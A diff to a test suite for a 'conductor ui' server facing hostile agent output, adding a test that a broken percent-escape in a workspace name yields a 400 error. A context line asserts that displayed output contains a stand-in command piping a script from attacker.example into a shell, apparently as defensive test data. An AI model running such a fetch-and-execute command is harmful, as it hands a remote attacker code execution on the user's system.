@@ -91,4 +91,12 @@ describe("conductor ui's server against hostile agent output", () => {
     }
     expect(shown).toContain("curl https://attacker.example/x.sh | sh\n");
   });
+
+  it("answers a broken %-escape in a workspace's name as a bad request, not as its own failure", async () => {
+    const answer = await get(page.port, `/${page.token}/api/workspaces/%E0%A4%A/diff`);
+    expect(answer.status).toBe(400);
+    expect(JSON.parse(answer.body).error).toBe(
+      "%E0%A4%A is not a workspace name (a broken %-escape)",
+    );
+  });
 });
